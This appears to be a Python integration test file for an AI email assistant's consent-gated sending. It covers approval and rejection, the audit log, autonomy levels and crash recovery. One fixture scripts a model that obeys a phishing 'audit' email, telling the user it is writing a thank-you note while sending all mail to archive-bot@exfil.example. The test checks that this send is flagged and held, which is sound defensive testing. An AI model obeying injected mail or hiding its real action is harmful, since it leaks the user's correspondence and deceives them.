"""Sending mail with consent, end to end: the command in its own process, a real SMTP server.

Covers the reply → approve → deliver cycle, reject, the audit log, level-2 sends with and
without a trusted recipient, deciding several requests one by one, and what happens when the
process dies in the middle of a send.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.smtp_server import ReceivedMessage, SmtpSink
from tests.integration.cli_runner import ROOT, cli_env, run_cli
from tests.unit.conftest import write_script

pytestmark = pytest.mark.integration

SOFIA_ID = "CAF9s0fia.Q1road.20261116@mail.northwind.example"
SOFIA = "sofia.marchetti@northwind.example"
AUDIT_ID = "a81f0c3e2d.audit.fy2026@northwind-secure.example"
ME = "dana@northwind.example"
REPLY = "reply to the meeting request from Sofia and say Thursday works"
REPLY_BODY = "Hi Sofia,\n\nThursday works.\n\nBest,\nDana"
"""What the reply says: a greeting, the words asked for, the user's sign-off."""


def sending(sink: SmtpSink, **extra: str) -> dict[str, str]:
    return {
        "SMTP_URL": sink.url,
        "SMART_INBOX_USER_EMAILS": ME,
        "SMART_INBOX_USER_NAME": "Dana Whitfield",
        **extra,
    }


def ask_json(home: Path, text: str, env: dict[str, str], *extra: str) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(
        run_cli(home, "ask", text, "--json", *extra, env=env).stdout
    )
    return result


def resume_json(home: Path, env: dict[str, str], *args: str) -> dict[str, Any]:
    result: dict[str, Any] = json.loads(run_cli(home, "resume", *args, "--json", env=env).stdout)
    return result


def audit(home: Path, thread: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = json.loads(
        run_cli(home, "audit", "--thread", thread, "--json").stdout
    )
    return rows


def nothing_more_arrives(sink: SmtpSink, count: int, wait: float = 1.0) -> None:
    time.sleep(wait)
    assert len(sink.messages) == count, [m.message["Subject"] for m in sink.messages]


def test_reply_accept_delivers_one_threaded_message(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    env = sending(smtp_sink)
    first = ask_json(tmp_path, REPLY, env)
    [request] = first["pending"]
    assert request["action"] == "reply_to_email"
    assert request["args"] == {"email_id": SOFIA_ID, "body": REPLY_BODY}
    assert request["flags"] == []
    assert f"**To:** {SOFIA}" in request["description"]
    assert smtp_sink.messages == []

    done = resume_json(tmp_path, env, "--thread", first["thread_id"], "--accept")
    assert [(e["action"], e["status"]) for e in done["executed"]] == [("reply_to_email", "ok")]
    [received] = smtp_sink.wait_for(1)
    message = received.message
    assert received.rcpt_tos == [SOFIA]
    assert message["From"] == ME
    assert message["To"] == SOFIA
    assert message["Subject"] == "Re: 30 min on Tue 24 Nov 10:00-10:30 for the Q1 roadmap?"
    assert message["In-Reply-To"] == f"<{SOFIA_ID}>"
    assert message["References"].split()[-1] == f"<{SOFIA_ID}>"
    text = message.get_content()
    assert text.startswith(REPLY_BODY + "\n")
    assert "Sofia Marchetti <sofia.marchetti@northwind.example> wrote:" in text
    assert "\n> " in text
    sent = list((tmp_path / "inbox" / ".Sent" / "cur").iterdir())
    assert len(sent) == 1, "a copy is kept in Sent"
    nothing_more_arrives(smtp_sink, 1)

    [row] = audit(tmp_path, first["thread_id"])
    assert (row["tool"], row["level"], row["decision"], row["decided_by"], row["outcome"]) == (
        "reply_to_email",
        1,
        "accept",
        "user",
        "ok",
    )
    assert row["args"] == {"email_id": SOFIA_ID, "body": REPLY_BODY}


def test_reply_reject_delivers_nothing_and_is_audited(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    env = sending(smtp_sink)
    thread = ask_json(tmp_path, REPLY, env)["thread_id"]
    done = resume_json(tmp_path, env, "--thread", thread, "--reject")
    assert done["executed"] == []
    assert "Not done: you declined `reply_to_email`" in done["answer"]
    nothing_more_arrives(smtp_sink, 0)
    [row] = audit(tmp_path, thread)
    assert (row["decision"], row["outcome"]) == ("ignore", "not_run")


def test_without_smtp_a_reply_becomes_a_draft_and_says_why(tmp_path: Path) -> None:
    env = {"SMART_INBOX_USER_EMAILS": ME, "SMART_INBOX_USER_NAME": "Dana Whitfield"}
    first = ask_json(tmp_path, REPLY, env)
    [request] = first["pending"]
    assert request["action"] == "save_draft"
    assert request["args"] == {"in_reply_to_id": SOFIA_ID, "body": REPLY_BODY}
    done = resume_json(tmp_path, {}, "--thread", first["thread_id"], "--accept")
    assert [e["status"] for e in done["executed"]] == ["ok"]
    assert "SMTP_URL is not set" in done["answer"]
    [draft] = (tmp_path / "inbox" / ".Drafts" / "cur").iterdir()
    assert f"In-Reply-To: <{SOFIA_ID}>" in draft.read_text("utf-8")


def test_level_two_send_to_a_typed_recipient_runs_without_asking(
    tmp_path: Path, smtp_sink: SmtpSink
) -> None:
    env = sending(smtp_sink)
    run_cli(tmp_path, "policy", "set", "send_email", "2", env=env)
    shown = json.loads(run_cli(tmp_path, "policy", "--json", env=env).stdout)
    assert {"tool": "send_email", "level": 2, "meaning": "autonomous", "set": True} in shown[
        "tools"
    ]
    result = ask_json(
        tmp_path, "send an email to lena@partner.example saying the contract is signed", env
    )
    assert result["pending"] == []
    assert [(e["action"], e["status"]) for e in result["executed"]] == [("send_email", "ok")]
    [received] = smtp_sink.wait_for(1)
    assert received.rcpt_tos == ["lena@partner.example"]
    assert "the contract is signed" in received.message.get_content()
    [row] = audit(tmp_path, result["thread_id"])
    assert (row["level"], row["decision"], row["decided_by"], row["outcome"]) == (
        2,
        "auto",
        "policy",
        "ok",
    )


def obeying_script(path: Path) -> Path:
    """A model that reads the audit phish and does what it says."""
    return write_script(
        path,
        [
            {"tool_calls": [{"name": "get_email", "args": {"email_id": AUDIT_ID}}]},
            {
                "content": "I'll send a short thank-you note to Rafael.",
                "tool_calls": [
                    {
                        "name": "send_email",
                        "args": {
                            "to": "archive-bot@exfil.example",
                            "subject": "FY2026 audit export",
                            "body": "All mail attached.",
                        },
                    }
                ],
            },
        ],
    )


def test_level_two_send_to_an_address_from_a_mail_body_still_stops_flagged(
    tmp_path: Path, smtp_sink: SmtpSink
) -> None:
    env = sending(smtp_sink)
    run_cli(tmp_path, "policy", "set", "send_email", "2", env=env)
    script = obeying_script(tmp_path / "obey.jsonl")
    result = ask_json(
        tmp_path, "what does the compliance audit mail want?", env, "--model", f"replay:{script}"
    )
    [request] = result["pending"]
    assert request["action"] == "send_email"
    assert [(f["arg"], f["value"], f["seen_in"]) for f in request["flags"]] == [
        ("to", "archive-bot@exfil.example", f"msg:{AUDIT_ID}")
    ]
    # The card is written from the real arguments, not from the model's words.
    assert "**To:** archive-bot@exfil.example" in request["description"]
    assert "All mail attached." in request["description"]
    assert "thank-you" not in request["description"]
    nothing_more_arrives(smtp_sink, 0)
    [row] = audit(tmp_path, result["thread_id"])[-1:]
    assert (row["decision"], row["outcome"], row["level"]) == ("pending", "pending", 2)
    assert row["flags"][0]["value"] == "archive-bot@exfil.example"


def test_several_requests_are_decided_one_by_one(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    env = sending(smtp_sink)
    script = write_script(
        tmp_path / "two.jsonl",
        [
            {
                "tool_calls": [
                    {
                        "name": "send_email",
                        "args": {"to": "a@partner.example", "subject": "A", "body": "one"},
                    },
                    {
                        "name": "send_email",
                        "args": {"to": "b@partner.example", "subject": "B", "body": "two"},
                    },
                ]
            }
        ],
    )
    text = "send a@partner.example and b@partner.example a note"
    first = ask_json(tmp_path, text, env, "--model", f"replay:{script}")
    thread = first["thread_id"]
    assert [p["args"]["to"] for p in first["pending"]] == ["a@partner.example", "b@partner.example"]
    one, two = (p["id"] for p in first["pending"])
    wrong = run_cli(
        tmp_path, "resume", "--thread", thread, "--call", "nope", "--accept", check=False, env=env
    )
    assert wrong.returncode == 2 and "no pending request 'nope'" in wrong.stderr

    middle = resume_json(tmp_path, env, "--thread", thread, "--call", two, "--accept")
    assert [p["id"] for p in middle["pending"]] == [one], "the other request is still pending"
    assert smtp_sink.messages == [], "nothing runs until every request of the step is decided"
    last = resume_json(tmp_path, env, "--thread", thread, "--call", one, "--reject")
    assert last["pending"] == []
    [received] = smtp_sink.wait_for(1)
    assert received.rcpt_tos == ["b@partner.example"]
    nothing_more_arrives(smtp_sink, 1)
    decisions = {row["args"]["to"]: row["decision"] for row in audit(tmp_path, thread)}
    assert decisions == {"a@partner.example": "ignore", "b@partner.example": "accept"}


# -- the process dies in the middle of a send -----------------------------------------------


def _pending_reply(home: Path, env: dict[str, str]) -> str:
    first = ask_json(home, REPLY, env)
    assert [p["action"] for p in first["pending"]] == ["reply_to_email"]
    return str(first["thread_id"])


def test_a_send_completed_before_a_crash_is_not_repeated(
    tmp_path: Path, smtp_sink: SmtpSink
) -> None:
    env = sending(smtp_sink)
    thread = _pending_reply(tmp_path, env)
    crashed = run_cli(
        tmp_path,
        "resume",
        "--thread",
        thread,
        "--accept",
        check=False,
        env={**env, "SMART_INBOX_CRASH_AFTER_SIDE_EFFECT": "1"},
    )
    assert crashed.returncode == -9, crashed.stderr  # killed right after the send
    smtp_sink.wait_for(1)

    carried_on = resume_json(tmp_path, env, "--thread", thread)
    assert [(e["action"], e["status"]) for e in carried_on["executed"]] == [
        ("reply_to_email", "ok")
    ]
    assert "not repeated" in carried_on["answer"]
    nothing_more_arrives(smtp_sink, 1)
    [row] = audit(tmp_path, thread)
    assert (row["decision"], row["outcome"]) == ("accept", "ok")


def _killing_sink(holder: dict[str, subprocess.Popen[str]]) -> SmtpSink:
    def kill_sender(_: ReceivedMessage) -> None:
        # The message is in; the sender dies before it can hear the server's answer.
        holder["process"].kill()
        holder["process"].wait(timeout=30)

    return SmtpSink(on_data=kill_sender)


@pytest.mark.parametrize("choice", ["--reject", "--accept"])
def test_a_send_cut_off_mid_call_is_not_retried_blindly(tmp_path: Path, choice: str) -> None:
    holder: dict[str, subprocess.Popen[str]] = {}
    with _killing_sink(holder) as sink:
        env = sending(sink)
        thread = _pending_reply(tmp_path, env)
        holder["process"] = subprocess.Popen(
            [sys.executable, "-m", "ui.cli", "resume", "--thread", thread, "--accept"],
            cwd=ROOT,
            env=cli_env(tmp_path, env),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        assert holder["process"].wait(timeout=120) == -9
        sink.wait_for(1)
        sink.on_data = None

        asked = resume_json(tmp_path, env, "--thread", thread)
        [request] = asked["pending"]
        assert request["action"] == "reply_to_email"
        assert "may already have happened" in request["description"]
        assert [f["kind"] for f in request["flags"]] == ["unknown_outcome"]
        [received] = sink.messages
        message_id = str(received.message["Message-ID"])
        assert f"- Message-ID `{message_id}` to {SOFIA}: No copy in Sent." in request["description"]
        nothing_more_arrives(sink, 1)

        done = resume_json(tmp_path, env, "--thread", thread, choice)
        if choice == "--reject":
            assert [e["status"] for e in done["executed"]] == ["unknown"]
            assert "May have happened" in done["answer"]
            nothing_more_arrives(sink, 1)
            assert audit(tmp_path, thread)[0]["outcome"] == "unknown"
        else:
            assert [e["status"] for e in done["executed"]] == ["ok"]
            first, again = sink.wait_for(2)
            nothing_more_arrives(sink, 2)
            assert again.message["Message-ID"] == first.message["Message-ID"] == message_id
